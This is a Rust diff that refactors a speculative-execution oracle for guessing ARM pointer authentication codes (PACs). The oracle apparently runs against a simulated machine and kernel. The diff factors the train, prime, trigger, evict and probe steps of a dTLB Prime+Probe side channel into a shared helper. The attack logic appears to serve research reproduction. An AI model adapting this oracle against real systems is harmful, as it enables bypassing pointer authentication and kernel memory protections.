@@ -208,15 +208,10 @@ fn check_quiet(sys: &System, target: u64) -> Result<(), OracleError> {
     }
 }
 
-fn payload_for(target: u64, pac: u16) -> [u8; 24] {
-    let mut payload = [0u8; 24];
-    payload[16..].copy_from_slice(&with_pac_field(target, pac).to_le_bytes());
-    payload
-}
-
-/// State shared by both oracle variants: per-target Prime+Probe machinery.
+/// State shared by the dTLB-channel oracles: per-target Prime+Probe
+/// machinery.
 #[derive(Debug, Default)]
-struct ProbeCache {
+pub(crate) struct ProbeCache {
     by_target: HashMap<u64, PrimeProbe>,
 }
 
@@ -224,9 +219,33 @@ impl ProbeCache {
     /// The Prime+Probe state for `target`, built on first use. Returns a
     /// borrow (not a clone): the eviction-set vectors are invariant
     /// across guesses, so trials must not re-materialise them.
-    fn get<'a>(&'a mut self, sys: &mut System, target: u64) -> &'a PrimeProbe {
+    pub(crate) fn get<'a>(&'a mut self, sys: &mut System, target: u64) -> &'a PrimeProbe {
         self.by_target.entry(target).or_insert_with(|| PrimeProbe::for_target(sys, target))
     }
+}
+
+/// One dTLB-channel trial of gadget syscall `sc`, the recipe at the top
+/// of this module: train, reset, prime, trigger with `target` signed by
+/// `pac`, evict through `pads` (instruction gadgets only), probe.
+pub(crate) fn dtlb_trial(
+    sys: &mut System,
+    pp: &PrimeProbe,
+    pads: Option<&JumpPads>,
+    sc: u64,
+    train_iters: usize,
+    target: u64,
+    pac: u16,
+) -> Result<usize, OracleError> {
+    sys.train_gadget(sc, train_iters)?;
+    pp.reset(sys)?;
+    pp.prime(sys)?;
+    sys.trigger_gadget(sc, with_pac_field(target, pac))?;
+    if let Some(pads) = pads {
+        // Kernel-iTLB self-eviction: migrate the speculative fetch's
+        // translation into the shared dTLB.
+        pads.evict(&mut sys.kernel, &mut sys.machine);
+    }
+    Ok(pp.probe(sys)?)
 }
 
 /// The data-gadget oracle (Figure 3(a), Figure 8(a)): the speculative
@@ -273,21 +292,9 @@ impl PacOracle for DataPacOracle {
 
     fn trial(&mut self, sys: &mut System, target: u64, pac: u16) -> Result<usize, OracleError> {
         check_quiet(sys, target)?;
-        let train_iters = self.train_iters;
-        let pp = self.probes.get(sys, target);
         let sc = sys.gadget.data_gadget;
-        // (1) train
-        for _ in 0..train_iters {
-            sys.kernel.syscall(&mut sys.machine, sc, &[0, 0, 1])?;
-        }
-        // (2) reset, (3) prime
-        pp.reset(sys)?;
-        pp.prime(sys)?;
-        // (4) trigger speculatively
-        let buf = sys.write_payload(&payload_for(target, pac));
-        sys.kernel.syscall(&mut sys.machine, sc, &[buf, 24, 0])?;
-        // (5) probe
-        Ok(pp.probe(sys)?)
+        let pp = self.probes.get(sys, target);
+        dtlb_trial(sys, pp, None, sc, self.train_iters, target, pac)
     }
 }
 
@@ -320,20 +327,6 @@ impl InstrPacOracle {
         self.samples = samples;
         self
     }
-
-    /// The jump pads for `target`, installed on first use. Borrowed, not
-    /// cloned, for the same reason as [`ProbeCache::get`]; an associated
-    /// function over the map field so the caller can hold this borrow
-    /// and the probe-cache borrow simultaneously.
-    fn pads_for<'a>(
-        pads: &'a mut HashMap<u64, JumpPads>,
-        sys: &mut System,
-        target: u64,
-    ) -> &'a JumpPads {
-        pads.entry(target).or_insert_with(|| {
-            JumpPads::install_for_target(&mut sys.kernel, &mut sys.machine, target, 4)
-        })
-    }
 }
 
 impl PacOracle for InstrPacOracle {
@@ -355,22 +348,13 @@ impl PacOracle for InstrPacOracle {
 
     fn trial(&mut self, sys: &mut System, target: u64, pac: u16) -> Result<usize, OracleError> {
         check_quiet(sys, target)?;
-        let train_iters = self.train_iters;
-        let pp = self.probes.get(sys, target);
-        let pads = Self::pads_for(&mut self.pads, sys, target);
         let sc = sys.gadget.instr_gadget;
-        for _ in 0..train_iters {
-            sys.kernel.syscall(&mut sys.machine, sc, &[0, 0, 1])?;
-        }
-        pp.reset(sys)?;
-        pp.prime(sys)?;
-        let buf = sys.write_payload(&payload_for(target, pac));
-        sys.kernel.syscall(&mut sys.machine, sc, &[buf, 24, 0])?;
-        // (5) kernel-iTLB self-eviction: migrate the speculative fetch's
-        // translation into the shared dTLB.
-        pads.evict(&mut sys.kernel, &mut sys.machine);
-        // (6) probe
-        Ok(pp.probe(sys)?)
+        let pp = self.probes.get(sys, target);
+        // Installed on first use and borrowed, like the probe state.
+        let pads = self.pads.entry(target).or_insert_with(|| {
+            JumpPads::install_for_target(&mut sys.kernel, &mut sys.machine, target, 4)
+        });
+        dtlb_trial(sys, pp, Some(pads), sc, self.train_iters, target, pac)
     }
 }
 
